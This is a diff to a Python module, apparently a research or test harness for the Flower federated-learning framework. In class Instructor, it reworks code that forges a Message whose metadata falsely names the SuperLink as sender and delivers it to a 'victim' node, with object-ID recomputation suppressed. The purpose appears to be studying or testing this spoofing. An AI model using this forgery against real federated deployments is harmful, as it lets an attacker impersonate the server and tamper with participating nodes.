@@ -21,6 +21,7 @@ from flwr.supercore.inflatable.inflatable_object import (
     get_object_tree,
     no_object_id_recompute,
 )
+from flwr.supercore.inflatable.inflatable_utils import pull_objects
 from flwr.supercore.protobuf.constants import PROTOBUF_MEDIA_TYPE
 from flwr.superlink.main import create_app
 from flwr.supernode import fleet_http_connection, node_auth_http_interceptor
@@ -34,7 +35,6 @@ from fedbilevel.errors import FedbilevelError, InvalidInputError
 from fedbilevel.experiments.federated import build_site
 from fedbilevel.federation import Terms
 from fedbilevel.federation.flower.messages import (
-    KIND,
     as_content,
     packet_in,
     packet_object,
@@ -319,11 +319,15 @@ class Instructor:
             while (received := receive()) is None:
                 time.sleep(0.1)
             run = received[0].metadata.run_id
-            hello = packet_in(pull(run, packet_object(received[1])))
-            forged = Message(as_content(make(hello)), victim, KIND, ttl=60)
-            told = forged.metadata.__dict__
-            told["_run_id"], told["_src_node_id"] = run, SUPERLINK_NODE_ID
-            told["_message_id"] = forged.object_id
+            name = packet_object(received[1])
+            hello = pull_objects([name], lambda one: pull(run, one))[name]
+            forged = Message(as_content(make(packet_in(hello))), reply_to=received[0])
+            forged.metadata.__dict__.update(
+                _src_node_id=SUPERLINK_NODE_ID,
+                _dst_node_id=victim,
+                _reply_to_message_id="",
+            )
+            forged.metadata.__dict__["_message_id"] = forged.object_id
             with no_object_id_recompute():
                 tree, objects = get_object_tree(forged), get_all_nested_objects(forged)
                 wanted, session = send(forged, tree, 0.0)
